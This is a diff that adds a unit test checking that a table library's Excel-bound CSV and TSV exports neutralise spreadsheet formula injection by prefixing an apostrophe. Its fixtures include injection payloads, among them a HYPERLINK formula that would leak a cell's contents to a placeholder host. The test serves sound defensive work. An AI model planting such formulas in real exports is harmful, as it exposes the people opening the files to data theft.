@@ -76,3 +76,23 @@ def test_an_empty_level_is_unknown_only_in_a_row_about_a_document():
     # near miss: a timeline's event has no key and no level; it says nothing about a level
     table = Table(columns=["what", "key", "level"], rows=[{"what": "event", "key": None, "level": None}])
     assert "unknown" not in table.render("table") and "Chưa rõ" not in table.render("table", lang="vi")
+
+
+def test_cells_for_a_spreadsheet_never_start_a_formula():
+    """An article's words become cells of the CSV an analyst opens in Excel: text that begins as a formula would
+    (``=``, ``+``, ``-``, ``@``, a tab or a carriage return) is kept as text by the apostrophe Excel itself uses;
+    numbers, negative ones too, and other text are left alone, and the CSV for scripts keeps every cell as it is."""
+    import csv
+    import io
+
+    hostile = ['=HYPERLINK("http://example.invalid/?x="&A1,"Xem")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]
+    rows = [{"text": t, "value": -5, "note": "Kết nạp 1.500 hội viên"} for t in hostile]
+    table = Table(columns=["text", "value", "note"], rows=rows)
+    excel = list(csv.reader(io.StringIO(table.render("csv", excel=True).lstrip("\ufeff"), newline="")))
+    assert [r[0] for r in excel[1:]] == ["'" + t.replace("\r", "\n") for t in hostile]
+    assert {r[1] for r in excel[1:]} == {"-5"} and {r[2] for r in excel[1:]} == {"Kết nạp 1.500 hội viên"}
+    tsv = list(csv.reader(io.StringIO(table.render("tsv", excel=True).lstrip("\ufeff"), newline=""), delimiter="\t"))
+    assert len(tsv) == 1 + len(hostile) and all(r[0].startswith("'") for r in tsv[1:])
+    # near miss: the CSV for scripts is not changed
+    plain = list(csv.reader(io.StringIO(table.render("csv"), newline="")))
+    assert [r[0] for r in plain[1:]] == [t.replace("\r", "\n") for t in hostile]  # (a carriage return is a line break)
